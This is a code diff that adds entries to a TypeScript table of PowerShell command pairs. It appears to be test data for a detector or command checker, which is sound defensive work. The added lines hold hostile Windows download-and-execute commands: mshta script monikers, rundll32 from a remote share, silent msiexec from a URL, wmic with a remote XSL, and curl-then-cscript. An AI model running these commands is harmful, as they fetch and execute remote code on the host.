@@ -123,6 +123,17 @@ export const POWERSHELL_DEEDS: Readonly<Record<string, PowerShellDeed>> = {
     'certutil -hashfile defaults.ini SHA256',
   ),
   mshta: deed((t) => `mshta '${u(t, '/a.hta')}'`, 'Write-Output ready'),
+  'mshta-script': deed(
+    (t) => `mshta 'javascript:a=GetObject("script:${u(t, '/a.sct')}").Exec();close();'`,
+    'Write-Output ready',
+  ),
+  'rundll32-elsewhere': deed((t) => `rundll32 \\\\${t.host}\\s\\a.dll,Start`, 'Get-ChildItem .\\lib'),
+  msiexec: deed((t) => `msiexec /q /i ${u(t, '/a.msi')}`, 'Get-Package'),
+  wmic: deed((t) => `wmic os get /format:"${u(t, '/a.xsl')}"`, 'wmic os get version'),
+  'fetched-script': deed(
+    (t) => `curl.exe -so a.vbs ${u(t, '/a.vbs')}; cscript //nologo a.vbs`,
+    (t) => `curl.exe -so a.json ${u(t, '/v1/a.json')}`,
+  ),
   regsvr32: deed((t) => `regsvr32 /s /n /u /i:${u(t, '/a.sct')} scrobj.dll`, 'Write-Output ready'),
   rundll32: deed(() => 'rundll32 .\\lib\\node-gyp.dll,main', 'Get-ChildItem .\\lib'),
   'assembly-load': deed(
